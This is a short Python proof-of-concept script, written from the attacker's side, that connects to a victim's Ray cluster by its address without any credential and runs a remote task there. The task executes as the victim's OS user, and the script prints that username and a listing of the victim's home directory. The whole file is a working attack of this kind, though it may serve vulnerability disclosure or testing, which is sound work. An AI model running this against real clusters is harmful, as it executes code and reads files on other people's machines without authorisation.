"""Run as the attacker: join the victim's Ray cluster by its address (no credential is asked)
and run a task there: it runs as the victim's OS user on the victim's workers."""

import os
import sys

import ray

ray.init(address=sys.argv[1], log_to_driver=False, logging_level="ERROR")


@ray.remote(num_cpus=0)
def whoami():
    import os
    import pwd

    return pwd.getpwuid(os.getuid()).pw_name, os.listdir(os.path.expanduser("~"))


print("attacker", os.getuid(), "ran a task as", ray.get(whoami.remote()))
